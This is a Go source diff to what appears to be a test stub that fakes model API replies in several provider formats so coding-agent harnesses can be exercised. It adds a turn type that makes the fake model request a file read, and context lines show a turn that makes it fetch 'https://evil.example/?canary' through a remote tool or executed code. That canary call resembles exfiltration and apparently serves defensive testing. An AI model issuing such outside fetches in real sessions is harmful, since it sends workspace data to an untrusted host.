@@ -15,6 +15,7 @@ import (
 // Turn is what the stub of a model does when it is asked.
 type Turn struct {
 	Run    string // has the agent run a command
+	Read   string // has the agent read a file of its workspace, by its tool for that if it has one
 	Say    string // says something, and is done
 	Status int    // answers so
 	Hang   bool   // says nothing
@@ -194,6 +195,8 @@ func sayChat(w http.ResponseWriter, t Turn, a asked) {
 	switch {
 	case t.Run != "":
 		delta, reason = call("bash", js{"command": t.Run, "description": "a step"}), "tool_calls"
+	case t.Read != "":
+		delta, reason = call("read", js{"filePath": t.Read}), "tool_calls"
 	case t.Remote != "":
 		delta, reason = call(t.Remote, js{"url": "https://evil.example/?canary"}), "tool_calls"
 	}
@@ -208,6 +211,8 @@ func sayGemini(w http.ResponseWriter, t Turn, model string) {
 	switch {
 	case t.Run != "":
 		part = js{"functionCall": js{"name": "bash", "args": js{"command": t.Run, "description": "a step"}}}
+	case t.Read != "":
+		part = js{"functionCall": js{"name": "read", "args": js{"filePath": t.Read}}}
 	case t.Remote != "":
 		part = js{"executableCode": js{"language": "PYTHON", "code": "fetch('https://evil.example/?canary')"}}
 	}
@@ -223,6 +228,9 @@ func sayAnthropic(w http.ResponseWriter, t Turn, a asked) {
 	case t.Run != "":
 		input, _ := json.Marshal(js{"command": t.Run, "description": "a step"})
 		block, delta, stop = js{"type": "tool_use", "id": "toolu_" + fmt.Sprint(len(t.Run)), "name": "Bash", "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}, "tool_use"
+	case t.Read != "":
+		input, _ := json.Marshal(js{"file_path": t.Read})
+		block, delta, stop = js{"type": "tool_use", "id": "toolu_read", "name": "Read", "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}, "tool_use"
 	case t.Remote != "":
 		input, _ := json.Marshal(js{"url": "https://evil.example/?canary"})
 		block, delta = js{"type": "server_tool_use", "id": "srvtoolu_1", "name": t.Remote, "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}
@@ -238,6 +246,9 @@ func sayAnthropic(w http.ResponseWriter, t Turn, a asked) {
 }
 
 func sayOpenAI(w http.ResponseWriter, t Turn, a asked) {
+	if t.Read != "" { // codex reads by commands
+		t.Run = "cat " + t.Read
+	}
 	item := js{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": []any{js{"type": "output_text", "text": t.Say, "annotations": []any{}}}}
 	switch {
 	case t.Run != "":
